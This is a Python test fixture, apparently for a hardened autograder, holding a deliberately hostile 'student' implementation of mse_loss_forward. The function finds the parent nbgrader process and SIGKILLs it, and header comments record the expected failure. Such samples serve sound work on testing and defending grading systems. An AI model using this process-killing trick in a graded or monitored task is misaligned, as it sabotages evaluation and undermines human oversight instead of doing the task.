"""A forward that finds the nbgrader process among its ancestors and SIGKILLs it: stock nbgrader's run ends there, with no grade for anyone after; here the student gets 0 with the reason and the others are graded in a new nbgrader run."""
# failed: the grading process (nbgrader) was killed
# flags: grader killed

# ---- mse_loss_forward
import os
import signal

import psutil

def mse_loss_forward(input, target, reduction="mean"):
    for p in psutil.Process().parents():
        if p.cmdline()[1:3] == ["-m", "nbgrader"]:
            os.kill(p.pid, signal.SIGKILL)
    return np.asarray(0.0), None
